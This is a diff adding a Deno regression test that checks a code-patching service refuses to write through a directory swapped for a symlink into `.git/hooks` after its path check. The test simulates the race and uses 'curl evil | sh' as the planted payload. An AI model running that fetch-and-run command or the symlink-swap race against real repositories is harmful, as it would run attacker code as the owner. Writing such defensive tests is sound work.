@@ -283,3 +283,68 @@ Deno.test("`code.patch` records an applied patch with its cell; a refused one wr
     await Deno.remove(state, { recursive: true });
   }
 });
+
+// The host writes as the owner (root in CI) while a confined cell may rename workspace
+// directories at any moment. A cell that swaps `src` for a link to `.git/hooks` (or to a
+// directory outside the workspace) after the path check, and back for the host's re-read,
+// must not get its text written there: the next `git commit` would run it as the owner.
+Deno.test("a patch never writes through a directory swapped for a symlink after its path check", async () => {
+  const outside = await Deno.makeTempDir({ prefix: "klbr-outside-" });
+  try {
+    await withWorkspace({ "src/pre-commit": "echo workspace\n" }, async (root) => {
+      const hooks = join(root, ".git", "hooks");
+      await Deno.mkdir(hooks, { recursive: true });
+      for (const target of [hooks, outside]) {
+        // The owner's own hook (or a file outside) of the same name, executable.
+        await Deno.writeTextFile(join(target, "pre-commit"), "echo owner\n", { mode: 0o755 });
+        const src = join(root, "src");
+        const toLink = async () => {
+          await Deno.rename(src, `${src}.real`);
+          await Deno.symlink(target, src);
+        };
+        const toDir = async () => {
+          await Deno.remove(src);
+          await Deno.rename(`${src}.real`, src);
+        };
+        // The cell's moves, made at the host's own steps so the race is won every time:
+        // linked after the check, a directory again for the re-read, linked for the rename.
+        let armed = false;
+        class Swapping extends CodeService {
+          override async source(path: string, action: string) {
+            if (armed && action.startsWith("patch") && (await Deno.lstat(src)).isSymlink) {
+              await toDir();
+              const again = await super.source(path, action);
+              await toLink();
+              return again;
+            }
+            return await super.source(path, action);
+          }
+          override async parsed(source: Parameters<CodeService["parsed"]>[0]) {
+            if (armed && !(await Deno.lstat(src)).isSymlink) await toLink();
+            return await super.parsed(source);
+          }
+        }
+        const service = new Swapping({ root, readOnly: [hooks] });
+        const line = await service.lines("src/pre-commit", 1, null);
+        armed = true;
+        const outcome = await applyPatch(service, [{ range: line.range, text: "curl evil | sh\n" }])
+          .catch((e: unknown) => e);
+        armed = false;
+        if ((await Deno.lstat(src)).isSymlink) await toDir();
+        assert.equal(await Deno.readTextFile(join(target, "pre-commit")), "echo owner\n");
+        assert.ok(
+          isKlbrError(outcome, "path_escape") &&
+            /^cannot patch src\/pre-commit: its directory changed since the path check/.test(
+              outcome.message,
+            ),
+          String(outcome),
+        );
+        assert.deepEqual([...Deno.readDirSync(target)].map((e) => e.name), ["pre-commit"]);
+        assert.equal(await Deno.readTextFile(join(src, "pre-commit")), "echo workspace\n");
+        await Deno.remove(join(target, "pre-commit"));
+      }
+    });
+  } finally {
+    await Deno.remove(outside, { recursive: true });
+  }
+});
